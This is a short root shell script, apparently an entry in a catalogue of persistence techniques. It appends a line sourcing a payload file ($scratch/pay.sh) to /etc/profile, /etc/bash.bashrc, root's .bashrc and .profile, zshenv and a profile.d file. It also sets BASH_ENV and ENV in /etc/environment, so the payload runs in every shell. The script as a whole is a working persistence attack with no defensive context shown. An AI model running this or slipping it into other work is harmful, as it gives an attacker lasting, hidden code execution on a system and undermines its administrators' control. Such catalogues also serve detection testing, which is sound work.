# family: shell
# what: Start-up files of every shell of the system pay.
# user: root
for file in /etc/profile /etc/bash.bashrc /etc/profile.d/cheat.sh /root/.bashrc /root/.profile /etc/zsh/zshenv; do
  mkdir -p "$(dirname "$file")"; echo ". $scratch/pay.sh" >> "$file"
done
echo "BASH_ENV=$scratch/pay.sh" >> /etc/environment
echo "ENV=$scratch/pay.sh" >> /etc/environment
